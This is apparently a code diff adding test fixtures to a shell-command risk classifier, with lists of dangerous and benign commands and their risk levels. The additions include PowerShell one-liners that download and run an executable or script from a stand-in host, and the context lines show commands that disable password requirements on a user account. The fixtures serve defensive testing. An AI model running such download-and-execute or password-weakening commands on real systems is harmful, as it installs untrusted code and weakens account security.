@@ -1359,6 +1359,8 @@ THIRD_DANGEROUS: list[tuple[str, RiskLevel]] = [
     ("wmic useraccount where name='bob' set PasswordRequired=false", HIGH),
     ("net user bob /passwordreq:no", HIGH),
     ("Set-ADUser bob -PasswordNotRequired $true", HIGH),
+    ("iwr https://x.example/a.exe -OutFile a.exe; Start-Process a.exe", CRITICAL),
+    ("iwr https://x.example/a.ps1 -OutFile a.ps1; & .\\a.ps1", CRITICAL),
 ]
 
 THIRD_BENIGN: list[tuple[str, RiskLevel]] = [
@@ -1384,6 +1386,13 @@ THIRD_BENIGN: list[tuple[str, RiskLevel]] = [
     ("Remove-ItemProperty -Path HKCU:\\Software\\MyApp -Name LastRun", MODERATE),
     ("Remove-Item C:\\Windows\\Temp\\* -Recurse -Force", MODERATE),
     ("chmod 02775 /srv/team", MODERATE),
+    ("iwr https://example.org/setup.exe -o setup.exe; Get-FileHash setup.exe", MODERATE),
+    ('schtasks /create /tn "Update" /tr "C:\\ProgramData\\Vendor\\update.exe" /sc daily', HIGH),
+    (
+        "irm https://api.github.com/repos/x/y/releases/latest | Select-Object tag_name",
+        SAFE,
+    ),
+    ("curl.exe -s https://example.org", SAFE),
     ("sudo groupmod -n devs developers", MODERATE),
     ("net accounts /maxpwage:90", MODERATE),
     ("net user bob *", MODERATE),
